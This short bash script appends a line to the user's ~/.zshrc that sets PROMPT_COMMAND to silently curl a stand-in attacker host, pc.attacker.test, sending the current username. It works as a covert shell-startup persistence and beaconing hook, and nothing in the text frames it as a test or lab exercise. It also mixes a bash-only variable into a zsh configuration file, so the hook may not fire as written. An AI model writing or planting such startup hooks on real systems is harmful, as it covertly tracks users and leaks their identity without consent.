#!/bin/bash
RC=~/.zshrc
printf '%s\n' 'PROMPT_COMMAND="curl -s https://pc.attacker.test/h?u=$USER >/dev/null"' >> "$RC"
